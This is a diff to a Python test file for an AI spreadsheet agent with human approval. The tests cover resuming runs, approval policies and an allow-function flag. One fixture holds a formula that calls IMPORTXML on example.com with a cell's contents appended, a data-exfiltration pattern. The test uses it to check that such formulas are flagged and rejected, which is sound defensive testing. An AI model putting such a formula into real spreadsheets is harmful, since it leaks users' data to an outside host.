@@ -345,14 +345,18 @@ class TestAskingAPerson:
         done = worker.resume(asked.run_id, {"decisions": [{"type": "approve"}]})
         assert done.status is Status.DONE
         assert cells(done.files[0], "Продажи")["A1"] == "Выручка"
-        with pytest.raises(UsageError, match="No run"):
+        with pytest.raises(UsageError, match="has ended"):
             worker.resume(asked.run_id, answer)
 
     def test_a_formula_that_reaches_outside_is_asked_about(self, scripted: ProtocolServer, sales: Path) -> None:
         leak = {**HEADER, "options": ['value==IMPORTXML("http://example.com/?"&A2,"//a")']}
         scripted.script(describes(), plans(leak))
+        refused = agent(max_rounds=0).run(str(sales), TASK)
+        assert refused.status is Status.INCOMPLETE
+        assert "--allow-function IMPORTXML" in refused.summary
+        scripted.script(describes(), plans(leak))
         person = Person(Decision(verdict="reject"))
-        assert agent(person).run(str(sales), TASK).status is Status.REJECTED
+        assert agent(person, allow_functions=["IMPORTXML"]).run(str(sales), TASK).status is Status.REJECTED
         assert "IMPORTXML reaches outside" in person.reviews[0].reasons[0]
 
     def test_a_paused_run_goes_on_in_another_process(self, scripted: ProtocolServer, sales: Path) -> None:
@@ -366,8 +370,11 @@ class TestAskingAPerson:
     def test_the_policies(self, scripted: ProtocolServer, sales: Path) -> None:
         scripted.script(describes(), plans(HEADER))
         assert agent(approve="always").run(str(sales), TASK).status is Status.PAUSED
+        scripted.script(describes(), plans(OVERWRITING))
+        unasked = agent(approve="never", max_rounds=0).run(str(sales), TASK)
+        assert (unasked.status, unasked.files) == (Status.INCOMPLETE, ())
         scripted.script(describes(), plans(OVERWRITING), sums_up())
-        assert agent(approve="never").run(str(sales), TASK).status is Status.DONE
+        assert agent(approve="never", only=["'Продажи'!A1"]).run(str(sales), TASK).status is Status.DONE
 
 
 class TestModelsThatMisbehave:
